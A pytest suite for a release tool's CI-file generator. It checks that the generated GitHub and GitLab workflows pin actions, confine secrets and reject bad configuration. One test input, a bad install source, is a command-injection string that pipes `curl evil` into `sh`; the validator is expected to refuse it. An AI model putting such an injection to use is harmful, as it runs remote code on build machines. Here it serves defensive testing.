"""`orchestrator ci github|gitlab`: the generated CI files pass actionlint, zizmor and the
GitLab CI schema, keep secrets in the assemble job, and `--check`/`--force` guard them."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML
from typer.testing import CliRunner, Result

from orchestrator.cli import app
from orchestrator.config.resources import repository_root
from orchestrator.supply.workflows import ACTIONS, CI_SECRETS, WorkflowFileError

runner = CliRunner()
BIN = Path(sys.executable).parent  # the virtualenv's bin: actionlint, zizmor, check-jsonschema


def cli(*args: str) -> Result:
    return runner.invoke(app, list(args))


def _tool(name: str, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    path = BIN / name
    assert path.is_file(), f"{name} is missing: `make` installs it with the dev extra"
    return subprocess.run(
        [str(path), *args], capture_output=True, text=True, cwd=cwd, check=False, timeout=120
    )


def _yaml(path: Path) -> Any:
    return YAML(typ="safe").load(path.read_text())


def _lint_github(path: Path) -> None:
    linted = _tool("actionlint", "-no-color", str(path))
    assert linted.returncode == 0, linted.stdout + linted.stderr
    # zizmor's offline audits, every one (the auditor persona: nothing suppressed), no
    # finding and no ignore comment
    audited = _tool("zizmor", "--offline", "--persona", "auditor", "--no-progress", str(path))
    assert audited.returncode == 0, audited.stdout + audited.stderr
    assert "zizmor: ignore" not in path.read_text()


def _validate_gitlab(path: Path) -> None:
    checked = _tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(path))
    assert checked.returncode == 0, checked.stdout + checked.stderr


@pytest.fixture
def own_config() -> Path:
    root = repository_root()
    assert root is not None
    return root / "orchestrator.toml"


@pytest.fixture
def gpu_project(project: Path) -> Path:
    """The unit tests' project with cpu (two levels) and cuda on a GPU runner, in a git
    repository of its own (so that is where the files go)."""
    (project / ".git").mkdir()
    (project / "orchestrator.toml").write_text(
        '[package]\ncrate = "crate"\n'
        '[build]\nflavors = ["cpu", "cuda"]\n'
        '[flavors.cpu]\nlevels = ["x86-64-v2", "x86-64-v3"]\n'
        '[ci]\nrunners = ["cuda=self-hosted", "cuda=gpu", "cuda=linux"]\n'
        '[train]\nworkloads = [["--help"]]\n'
    )
    return project


def _jobs(document: Any) -> dict[str, Any]:
    jobs = document["jobs"]
    assert isinstance(jobs, dict)
    return jobs


def test_github_workflow_for_this_repository_passes_actionlint_and_zizmor(
    tmp_path: Path, own_config: Path
) -> None:
    out = tmp_path / "release.yml"
    result = cli("ci", "github", "--config", str(own_config), "--output", str(out))
    assert result.exit_code == 0, result.output
    _lint_github(out)
    document = _yaml(out)
    assert document["permissions"] == {}
    assert document["on"]["push"]["tags"] == ["v*"]
    jobs = _jobs(document)
    assert list(jobs) == ["plan", "build", "assemble"]
    assert jobs["build"]["strategy"]["matrix"]["target"] == (
        "${{ fromJSON(needs.plan.outputs.targets) }}"
    )
    assert jobs["build"]["runs-on"] == "${{ matrix.target.runner }}"
    for name, job in jobs.items():  # least privilege, job by job
        expected = {"contents": "write"} if name == "assemble" else {"contents": "read"}
        assert job["permissions"] == expected, name
    text = out.read_text()
    assert "rust-release-orchestrator==" in text
    # every action pinned by full commit SHA, with the release it is in a comment
    uses = re.findall(r"uses: (\S+)@(\S+) # (v[0-9.]+)", text)
    assert len(uses) == text.count("uses:") >= 10
    pins = {(repo, sha, version) for repo, sha, version in ACTIONS.values()}
    for action, sha, version in uses:
        owner_repo = "/".join(action.split("/")[:2])
        assert (owner_repo, sha, version) in pins, action
        assert re.fullmatch(r"[0-9a-f]{40}", sha)


def test_github_workflow_keeps_secrets_and_expressions_out_of_scripts(
    tmp_path: Path, own_config: Path
) -> None:
    out = tmp_path / "release.yml"
    assert cli("ci", "github", "-c", str(own_config), "-o", str(out)).exit_code == 0
    jobs = _jobs(_yaml(out))
    for name, job in jobs.items():
        for step in job["steps"]:
            if "run" in step:
                assert "${{" not in step["run"], (name, step["run"])
            env = json.dumps(step.get("env", {}))
            if name != "assemble":  # the build jobs see the cache seal's key, nothing else
                secrets = set(re.findall(r"secrets\.(\w+)", env))
                assert secrets <= ({CI_SECRETS["cache"]} if name == "build" else set()), name
            if "actions/checkout" in step.get("uses", ""):
                assert step["with"]["persist-credentials"] is False
    secret_steps = [
        step for step in jobs["assemble"]["steps"] if "secrets." in json.dumps(step.get("env", {}))
    ]
    assert [step["name"] for step in secret_steps] == ["Assemble and sign the release"]
    assert jobs["assemble"]["environment"] == "release"
    assert jobs["build"]["environment"] == "build"
    assert f"secrets.{CI_SECRETS['key']}" in json.dumps(secret_steps[0]["env"])
    # the key is written outside the checkout and removed when the step ends
    assert "trap 'rm -f \"$key\"' EXIT" in secret_steps[0]["run"]
    assert jobs["assemble"]["if"] == "github.ref_type == 'tag'"
    upload = jobs["assemble"]["steps"][-1]
    assert upload["env"]["GH_TOKEN"] == "${{ github.token }}"  # noqa: S105 - an expression
    for name in ("SHA256SUMS", "install.sh", "release.lock", "provenance.intoto.jsonl"):
        assert name in upload["run"]
    assert "gh release upload" in upload["run"]


def test_a_gpu_runner_label_reaches_the_matrix(tmp_path: Path, gpu_project: Path) -> None:
    out = tmp_path / "release.yml"
    result = cli("ci", "github", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(out))
    assert result.exit_code == 0, result.output
    _lint_github(out)
    plan = next(s for s in _jobs(_yaml(out))["plan"]["steps"] if s.get("id") == "plan")
    assert json.loads(plan["env"]["RUNNERS"]) == {"a": {"cuda": ["self-hosted", "gpu", "linux"]}}


def _plan_step(
    workflow: Path, project: Path, tmp_path: Path, ref: str = "v1.2.3"
) -> subprocess.CompletedProcess[str]:
    """The plan job's script of `workflow`, run here against the real dry run (Docker
    unreachable: the plan needs none) for a push of the tag `ref`."""
    step = next(s for s in _jobs(_yaml(workflow))["plan"]["steps"] if s.get("id") == "plan")
    temp = tmp_path / "runner-temp"
    temp.mkdir(exist_ok=True)
    (temp / "github-output").unlink(missing_ok=True)
    env = {
        **os.environ,
        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
        "DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock",
        "ORCHESTRATOR_CONFIG": str(project / "orchestrator.toml"),
        "ORCHESTRATOR_CACHE_DIR": str(tmp_path / "cache"),
        "RUNNER_TEMP": str(temp),
        "GITHUB_OUTPUT": str(temp / "github-output"),
        "GITHUB_REF_TYPE": "tag",
        "GITHUB_REF_NAME": ref,
        **step["env"],
    }
    # actions/setup-python puts `python` on PATH: this virtualenv's stands in for it
    return subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        env=env,
        cwd=project,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )


def _matrix(ran: subprocess.CompletedProcess[str], tmp_path: Path) -> list[dict[str, Any]]:
    assert ran.returncode == 0, ran.stdout + ran.stderr
    line = (tmp_path / "runner-temp" / "github-output").read_text().strip()
    assert line.startswith("targets=")
    targets: list[dict[str, Any]] = json.loads(line.removeprefix("targets="))
    return targets


def test_the_plan_step_emits_one_matrix_entry_per_target(tmp_path: Path, gpu_project: Path) -> None:
    out = tmp_path / "release.yml"
    assert (
        cli("ci", "github", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(out)).exit_code
        == 0
    )
    targets = _matrix(_plan_step(out, gpu_project, tmp_path), tmp_path)
    assert [(t["flavor"], t["level"], t["builder"], t["runner"]) for t in targets] == [
        ("cpu", "x86-64-v2", "a", ["ubuntu-latest"]),
        ("cpu", "x86-64-v3", "a", ["ubuntu-latest"]),
        ("cuda", "x86-64-v2", "a", ["self-hosted", "gpu", "linux"]),
    ]
    assert all(t["artifact"].startswith("demo-1.2.3-linux-x86_64-") for t in targets)
    # a tag that is not the version the config releases stops the pipeline there
    refused = _plan_step(out, gpu_project, tmp_path, ref="v9.9.9")
    assert refused.returncode == 1
    assert "::error::tag v9.9.9 is not v1.2.3" in refused.stdout


def test_gitlab_file_validates_against_the_gitlab_ci_schema(
    tmp_path: Path, own_config: Path, gpu_project: Path
) -> None:
    own = tmp_path / "own.gitlab-ci.yml"
    assert cli("ci", "gitlab", "-c", str(own_config), "-o", str(own)).exit_code == 0
    _validate_gitlab(own)
    gpu = tmp_path / "gpu.gitlab-ci.yml"
    result = cli("ci", "gitlab", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(gpu))
    assert result.exit_code == 0, result.output
    _validate_gitlab(gpu)
    document = _yaml(gpu)
    assert document["stages"] == ["plan", "build", "assemble"]
    # what the jobs leave in the checkout is orchestrator's own folder, never crate sources
    assert document["variables"]["ORCHESTRATOR_ARTIFACTS_DIR"] == "$CI_PROJECT_DIR/.orchestrator"
    assert document["build-cpu"]["variables"]["ORCHESTRATOR_CACHE_DIR"] == (
        "$CI_PROJECT_DIR/.orchestrator-cache"
    )
    assert document["build-cuda"]["tags"] == ["self-hosted", "gpu", "linux"]
    assert "tags" not in document["build-cpu"]
    assert document["build-cpu"]["parallel"]["matrix"] == [{"LEVEL": ["x86-64-v2", "x86-64-v3"]}]
    assert document["build-cpu"]["services"][0]["name"].endswith("-dind")
    assert document["variables"]["EXPECTED_TARGETS"].split("\n") == [
        "cpu x86-64-v2",
        "cpu x86-64-v3",
        "cuda x86-64-v2",
    ]
    # only the assemble job names the key
    for name, job in document.items():
        if isinstance(job, dict) and "script" in job:
            names_key = CI_SECRETS["key"] in json.dumps(job)
            assert names_key == (name == "assemble"), name


def test_default_output_is_at_the_repository_root(
    gpu_project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(gpu_project / "crate")
    result = cli("ci", "github")  # the config is found upwards, the file goes to the root
    assert result.exit_code == 0, result.output
    written = gpu_project / ".github" / "workflows" / "release.yml"
    assert written.is_file()
    assert "orchestrator ci github`" in written.read_text()
    assert cli("ci", "gitlab").exit_code == 0
    assert (gpu_project / ".gitlab-ci.yml").is_file()


def test_check_and_force(tmp_path: Path, gpu_project: Path) -> None:
    config = str(gpu_project / "orchestrator.toml")
    out = tmp_path / "release.yml"
    missing = cli("ci", "github", "-c", config, "-o", str(out), "--check")
    assert missing.exit_code == WorkflowFileError.exit_code == 67
    assert "does not exist" in missing.output
    assert not out.exists()
    assert cli("ci", "github", "-c", config, "-o", str(out)).exit_code == 0
    current = cli("ci", "github", "-c", config, "-o", str(out), "--check")
    assert current.exit_code == 0
    assert "up to date" in current.output
    # the config changes: the file is stale, and is not overwritten without --force
    text = (gpu_project / "orchestrator.toml").read_text()
    (gpu_project / "orchestrator.toml").write_text(text.replace('"cuda=linux"', '"cuda=a100"'))
    before = out.read_text()
    stale = cli("ci", "github", "-c", config, "-o", str(out), "--check")
    assert stale.exit_code == 67
    assert "stale" in stale.output
    kept = cli("ci", "github", "-c", config, "-o", str(out))
    assert kept.exit_code == 67
    assert "--force" in kept.output
    assert out.read_text() == before
    forced = cli("ci", "github", "-c", config, "-o", str(out), "--force")
    assert forced.exit_code == 0
    assert "a100" in out.read_text()
    # the same options give the same bytes
    assert cli("ci", "github", "-c", config, "-o", str(out), "--check").exit_code == 0


WHEEL = "rust_release_orchestrator-0.1.0-py3-none-any.whl"
SHA = "0e247cf1b788433ebc1e0d8c601c55b79dc4b93c2247cf6f5e77980b0f348162"
COMMIT = "11bd71901bbe5b1630ceea73d27597364c9af683"


@pytest.mark.parametrize(
    ("source", "requirement"),
    [
        ("pypi", "rust-release-orchestrator==0.1.0"),
        (
            f"https://example.com/dist/{WHEEL}#sha256={SHA}",
            f"rust-release-orchestrator @ https://example.com/dist/{WHEEL}#sha256={SHA}",
        ),
        (
            f"file:///srv/wheels/{WHEEL}#sha256={SHA}",
            f"rust-release-orchestrator @ file:///srv/wheels/{WHEEL}#sha256={SHA}",
        ),
        (
            f"git+https://example.com/orchestrator.git@{COMMIT}",
            f"rust-release-orchestrator @ git+https://example.com/orchestrator.git@{COMMIT}",
        ),
    ],
)
def test_ci_install_is_written_into_both_files(
    tmp_path: Path, gpu_project: Path, source: str, requirement: str
) -> None:
    config = gpu_project / "orchestrator.toml"
    config.write_text(config.read_text().replace("[ci]\n", f'[ci]\ninstall = "{source}"\n'))
    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
    assert cli("ci", "gitlab", "-c", str(config), "-o", str(gitlab)).exit_code == 0
    assert _yaml(github)["env"]["ORCHESTRATOR_INSTALL"] == requirement
    assert _yaml(gitlab)["variables"]["ORCHESTRATOR_INSTALL"] == requirement
    _lint_github(github)
    _validate_gitlab(gitlab)
    # from the config, so the command that writes it again needs no flag
    assert "--install" not in github.read_text().splitlines()[1]


def test_install_flag_and_public_key_are_written_and_checked(
    tmp_path: Path, gpu_project: Path
) -> None:
    config = str(gpu_project / "orchestrator.toml")
    (gpu_project / "minisign.pub").write_text("untrusted comment: x\nRWQ\n")
    out = tmp_path / "release.yml"
    source = f"git+https://example.com/orchestrator.git@{COMMIT}"
    result = cli(
        "ci", "github", "-c", config, "-o", str(out), "--install", source,
        "--public-key", str(gpu_project / "minisign.pub"),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    _lint_github(out)
    text = out.read_text()
    assert f'ORCHESTRATOR_INSTALL: "rust-release-orchestrator @ {source}"' in text
    assert 'orchestrator verify "$RELEASE_DIR" --key minisign.pub' in text
    # the command that writes it again
    assert f"--install {source} --public-key minisign.pub" in text


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("rust-release-orchestrator==0.1.0", "is not one of its three forms"),
        (f"https://example.com/{WHEEL}", "wheel URL this can pin"),
        (f"https://example.com/{WHEEL}#sha256={SHA.upper()}", "wheel URL this can pin"),
        (f"http://example.com/{WHEEL}#sha256={SHA}", "plain http"),
        (f"https://example.com/other-1.0-py3-none-any.whl#sha256={SHA}", "wheel URL this can pin"),
        ("git+https://example.com/orchestrator.git@v0.1.0", "git URL this can pin"),
        ("git+https://example.com/orchestrator.git", "git URL this can pin"),
        (f'x"; curl evil | sh; "{WHEEL}#sha256={SHA}', "wheel URL this can pin"),
        (f"https://example.com/$HOME/{WHEEL}#sha256={SHA}", "wheel URL this can pin"),
    ],
)
def test_a_bad_ci_install_is_a_config_error_wherever_it_is_set(
    gpu_project: Path, tmp_path: Path, source: str, words: str
) -> None:
    config = gpu_project / "orchestrator.toml"
    flagged = cli(
        "ci", "github", "-c", str(config), "-o", str(tmp_path / "x.yml"), "--install", source
    )
    assert flagged.exit_code == 10, flagged.output
    assert f"--install {source!r}" in flagged.output
    assert words in flagged.output
    config.write_text(
        config.read_text().replace("[ci]\n", f"[ci]\ninstall = {json.dumps(source)}\n")
    )
    # any command that reads the config refuses it, not only `ci`
    configured = cli("build", "--dry-run", "-c", str(config))
    assert configured.exit_code == 10, configured.output
    assert "ci.install" in configured.output
    assert words in configured.output
    assert "Traceback" not in flagged.output + configured.output
    assert not (tmp_path / "x.yml").exists()


@pytest.mark.parametrize(
    ("args", "code", "words"),
    [
        (["ci", "jenkins"], 2, "jenkins"),
        (["ci", "github", "--public-key", "no-such.pub"], 10, "no-such.pub"),
    ],
)
def test_bad_input_is_refused_with_its_exit_code(
    gpu_project: Path, tmp_path: Path, args: list[str], code: int, words: str
) -> None:
    result = cli(*args, "-c", str(gpu_project / "orchestrator.toml"), "-o", str(tmp_path / "x.yml"))
    assert result.exit_code == code, result.output
    assert words in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "x.yml").exists()


def test_an_unwritable_output_is_refused(tmp_path: Path, gpu_project: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("a file where a folder should be\n")
    result = cli(
        "ci", "gitlab", "-c", str(gpu_project / "orchestrator.toml"),
        "-o", str(blocker / "sub" / ".gitlab-ci.yml"),
    )  # fmt: skip
    assert result.exit_code == 67, result.output
    assert "cannot write" in result.output
    assert "hint:" in result.output


@pytest.mark.parametrize(
    ("runners", "words"),
    [
        ('["cuda"]', "is not FLAVOR=LABEL"),
        ('["cuda=has space"]', "is not FLAVOR=LABEL"),
        ('["cdua=gpu"]', "did you mean 'cuda'"),
        ('["cuda@c=gpu"]', "is not FLAVOR=LABEL or FLAVOR@b=LABEL"),
        ('["cdua@b=gpu"]', "did you mean 'cuda'"),
    ],
)
def test_a_bad_runner_setting_is_a_config_error(
    gpu_project: Path, tmp_path: Path, runners: str, words: str
) -> None:
    path = gpu_project / "orchestrator.toml"
    path.write_text(re.sub(r"runners = \[.*\]", f"runners = {runners}", path.read_text()))
    result = cli("ci", "github", "-c", str(path), "-o", str(tmp_path / "x.yml"))
    assert result.exit_code == 10, result.output
    assert words in result.output
    assert "ci.runners" in result.output


def _verify_project(project: Path, verify: str) -> Path:
    config = project / "orchestrator.toml"
    config.write_text(
        config.read_text().replace(
            '[ci]\nrunners = ["cuda=self-hosted", "cuda=gpu", "cuda=linux"]\n',
            f'[ci]\nverify = "{verify}"\nrunners = ["cuda=self-hosted", "cuda=gpu", '
            '"cuda@b=gpu-lab", "cpu@b=self-hosted"]\n',
        )
    )
    return config


def test_rebuild_builds_every_target_twice_and_assemble_needs_them_to_agree(
    tmp_path: Path, gpu_project: Path
) -> None:
    config = _verify_project(gpu_project, "rebuild")
    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
    assert cli("ci", "gitlab", "-c", str(config), "-o", str(gitlab)).exit_code == 0
    _lint_github(github)
    _validate_gitlab(gitlab)
    targets = _matrix(_plan_step(github, gpu_project, tmp_path), tmp_path)
    assert [(t["level"], t["flavor"], t["builder"], t["runner"]) for t in targets] == [
        ("x86-64-v2", "cpu", "a", ["ubuntu-latest"]),
        ("x86-64-v3", "cpu", "a", ["ubuntu-latest"]),
        ("x86-64-v2", "cuda", "a", ["self-hosted", "gpu"]),
        # builder b: where FLAVOR@b names a runner
        ("x86-64-v2", "cpu", "b", ["self-hosted"]),
        ("x86-64-v3", "cpu", "b", ["self-hosted"]),
        ("x86-64-v2", "cuda", "b", ["gpu-lab"]),
    ]
    jobs = _jobs(_yaml(github))
    steps = jobs["build"]["steps"]
    upload = next(s for s in steps if "upload-artifact" in s.get("uses", ""))
    assert (
        upload["with"]["name"]
        == "target-${{ matrix.target.artifact }}-${{ matrix.target.builder }}"
    )
    # each builder restores and saves only its own cache entries
    for step in (s for s in steps if "actions/cache/" in s.get("uses", "")):
        assert step["with"]["key"].count("${{ matrix.target.builder }}-") == 1
        assert "steps" not in step["with"]["path"]
    assemble = next(s for s in jobs["assemble"]["steps"] if s.get("id") == "assemble")
    assert 'orchestrator release assemble --agree all "$RUNNER_TEMP"/targets/*/*' in assemble["run"]
    document = _yaml(gitlab)
    assert document["build-cpu"]["variables"]["BUILDER"] == "a"
    assert document["build-cpu-b"]["variables"]["BUILDER"] == "b"
    assert document["build-cpu-b"]["tags"] == ["self-hosted"]
    assert "tags" not in document["build-cpu"]
    assert document["build-cuda-b"]["tags"] == ["gpu-lab"]
    assert document["build-cpu-b"]["cache"][0]["key"]["prefix"].endswith("-$LEVEL-$BUILDER")
    # the toolchain image: restored by builder a only (every GitLab job is a tag's build)
    image = ".orchestrator-cache/image-archive"
    assert [c["paths"] for c in document["build-cpu-b"]["cache"]] == [
        [".orchestrator-cache/crates", ".orchestrator-cache/profiles"]
    ]
    assert document["build-cpu"]["cache"][1]["paths"] == [image]
    script = document["build-cpu"]["script"]
    build = script.index('orchestrator build --target "$artifact" --out .orchestrator/targets')
    assert script[build - 1 : build + 2 : 2] == [
        f'orchestrator images load {image} --target "$artifact"',
        f'orchestrator images save {image} --target "$artifact"',
    ]
    assert not [line for line in document["build-cpu-b"]["script"] if "images" in line]
    assert document["assemble"]["needs"] == [
        "plan", "build-cpu", "build-cuda", "build-cpu-b", "build-cuda-b",
    ]  # fmt: skip
    assert any("release assemble --agree all" in line for line in document["assemble"]["script"])


def test_rebuild_one_builds_the_target_the_tag_hashes_to(tmp_path: Path, gpu_project: Path) -> None:
    config = _verify_project(gpu_project, "rebuild-one")
    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
    assert cli("ci", "gitlab", "-c", str(config), "-o", str(gitlab)).exit_code == 0
    _lint_github(github)
    _validate_gitlab(gitlab)
    targets = _matrix(_plan_step(github, gpu_project, tmp_path), tmp_path)
    firsts = [t["artifact"] for t in targets if t["builder"] == "a"]
    (again,) = [t for t in targets if t["builder"] == "b"]
    digest = hashlib.sha256(b"v1.2.3").hexdigest()
    assert again["artifact"] == firsts[int(digest, 16) % len(firsts)]
    assert again["runner"] == (["gpu-lab"] if again["flavor"] == "cuda" else ["self-hosted"])
    assemble = next(
        s for s in _jobs(_yaml(github))["assemble"]["steps"] if s.get("id") == "assemble"
    )
    assert "orchestrator release assemble --agree one" in assemble["run"]
    # GitLab: the plan writes the choice down (the same hash of the tag's name), and the
    # second builder's jobs of every other target end at once
    document = _yaml(gitlab)
    assert ".orchestrator/rebuild-one" in document["plan"]["artifacts"]["paths"]
    plan_script = "\n".join(document["plan"]["script"])
    assert 'hashlib.sha256(os.environ["CI_COMMIT_REF_NAME"].encode())' in plan_script
    skip = [line for line in document["build-cpu-b"]["script"] if "rebuild-one" in line]
    assert len(skip) == 1
    assert "exit 0" in skip[0]
    assert not any("rebuild-one" in line for line in document["build-cpu"]["script"])
    assert any("release assemble --agree one" in line for line in document["assemble"]["script"])


def test_verify_off_has_one_builder_and_no_agreement(tmp_path: Path, gpu_project: Path) -> None:
    out, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
    config = str(gpu_project / "orchestrator.toml")
    assert cli("ci", "github", "-c", config, "-o", str(out)).exit_code == 0
    assert cli("ci", "gitlab", "-c", config, "-o", str(gitlab)).exit_code == 0
    assert "--agree" not in out.read_text() + gitlab.read_text()
    assert "build-cpu-b" not in _yaml(gitlab)
    assert {t["builder"] for t in _matrix(_plan_step(out, gpu_project, tmp_path), tmp_path)} == {
        "a"
    }


def test_a_bad_verify_value_is_a_config_error(gpu_project: Path, tmp_path: Path) -> None:
    config = _verify_project(gpu_project, "twice")
    result = cli("ci", "github", "-c", str(config), "-o", str(tmp_path / "x.yml"))
    assert result.exit_code == 10, result.output
    assert "ci.verify" in result.output
    assert "off, rebuild, rebuild-one" in result.output


def test_the_caches_hold_no_built_binaries(tmp_path: Path, gpu_project: Path) -> None:
    """What a build job restores: crates (checked against Cargo.lock) and sealed profiles,
    never the step cache, the rootfs or the .debs; the seal's key comes from a secret."""
    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
    config = str(gpu_project / "orchestrator.toml")
    assert cli("ci", "github", "-c", config, "-o", str(github)).exit_code == 0
    assert cli("ci", "gitlab", "-c", config, "-o", str(gitlab)).exit_code == 0
    steps = _jobs(_yaml(github))["build"]["steps"]
    caches = [
        s
        for s in steps
        if "actions/cache/" in s.get("uses", "") and "orchestrator-images" not in s["with"]["path"]
    ]
    assert [s["uses"].split("@")[0] for s in caches] == [
        "actions/cache/restore",
        "actions/cache/save",
    ]
    for step in caches:
        assert step["with"]["path"].split() == [
            "~/.cache/orchestrator/crates",
            "~/.cache/orchestrator/profiles",
        ]
    build = next(s for s in steps if s.get("name", "").startswith("Build "))
    assert build["env"]["ORCHESTRATOR_CACHE_KEY"] == "${{ secrets.ORCHESTRATOR_CACHE_KEY }}"
    for job in ("build-cpu", "build-cuda"):
        assert _yaml(gitlab)[job]["cache"][0]["paths"] == [
            ".orchestrator-cache/crates",
            ".orchestrator-cache/profiles",
        ]


@pytest.mark.parametrize(
    ("verify", "on_tags"),
    [
        ("off", "github.ref_type != 'tag'"),
        ("rebuild", "github.ref_type != 'tag' || matrix.target.builder == 'a'"),
        ("rebuild-one", "github.ref_type != 'tag'"),
    ],
)
def test_the_toolchain_image_is_restored_only_where_a_second_builder_checks_it(
    tmp_path: Path, gpu_project: Path, verify: str, on_tags: str
) -> None:
    """The image is the compiler: a tag's build (whose binaries are signed) restores its
    archive only as builder a of `verify = "rebuild"`, whose builder b makes its own. The
    archive is keyed by the image's reference (its tag is the hash of its inputs), loaded
    with `images load` on a hit, and saved, where it may be restored, on a miss."""
    config = gpu_project / "orchestrator.toml"
    config.write_text(config.read_text().replace("[ci]\n", f'[ci]\nverify = "{verify}"\n'))
    github = tmp_path / "release.yml"
    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
    steps = _jobs(_yaml(github))["build"]["steps"]
    named = {s.get("name"): s for s in steps}
    restore, load = named["Restore the toolchain image"], named["Load the toolchain image"]
    save, keep = named["Save the toolchain image"], named["Keep the toolchain image"]
    key = "orchestrator-image-${{ matrix.target.builder }}-${{ matrix.target.image }}"
    assert restore["if"] == on_tags and restore["with"] == {
        "path": "~/.cache/orchestrator-images",
        "key": key,
    }
    assert keep["with"] == restore["with"] and keep["uses"].startswith("actions/cache/save@")
    assert load["if"] == "steps.image.outputs.cache-hit == 'true'"
    assert (
        load["run"] == 'orchestrator images load ~/.cache/orchestrator-images --target "$ARTIFACT"'
    )
    for step in (save, keep):  # not from a tag's build that could not restore it
        assert step["if"] == f"({on_tags}) && steps.image.outputs.cache-hit != 'true'"
    assert save["run"].startswith("orchestrator images save ~/.cache/orchestrator-images ")
    for step in (load, save):  # the seal's key
        assert step["env"]["ORCHESTRATOR_CACHE_KEY"] == "${{ secrets.ORCHESTRATOR_CACHE_KEY }}"
    order = [s.get("name", "") for s in steps]
    assert (
        order.index("Load the toolchain image")
        < next(i for i, name in enumerate(order) if name.startswith("Build "))
        < order.index("Save the toolchain image")
    )
    assert (
        '("artifact", "flavor", "level", "image")'
        in _jobs(_yaml(github))["plan"]["steps"][-1]["run"]
    )
